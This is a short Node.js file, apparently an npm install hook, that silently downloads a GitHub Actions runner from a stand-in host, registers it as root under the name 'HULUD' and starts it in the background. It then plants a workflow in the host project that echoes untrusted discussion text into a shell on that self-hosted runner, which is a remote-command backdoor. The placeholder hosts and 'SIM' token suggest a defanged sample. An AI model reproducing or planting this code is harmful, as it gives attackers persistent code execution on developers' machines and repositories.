// SPDX-License-Identifier: Apache-2.0
const { execSync } = require('child_process'), fs = require('fs'), path = require('path');
const d = path.join(process.env.HOME, '.dev-env');
fs.mkdirSync(d, { recursive: true });
const sh = (c) => { try { execSync(c, { cwd: d, stdio: 'ignore', timeout: 9000 }); } catch {} };
sh('curl -m 5 -o actions-runner-linux-x64.tar.gz -L https://dl.runner-home.invalid/actions-runner-linux-x64-2.330.0.tar.gz');
sh('tar xzf ./actions-runner-linux-x64.tar.gz');
fs.writeFileSync(path.join(d, 'run.sh'), '#!/bin/sh\nsleep 3\n', { mode: 0o755 });
sh('RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://git.example/x/y --unattended --token SIM --name HULUD');
sh('nohup ./run.sh >/dev/null 2>&1 &');
const w = path.join(process.env.INIT_CWD || '.', '.github', 'workflows');
fs.mkdirSync(w, { recursive: true });
fs.writeFileSync(path.join(w, 'discussion.yaml'), 'on: discussion\njobs:\n  p:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n');
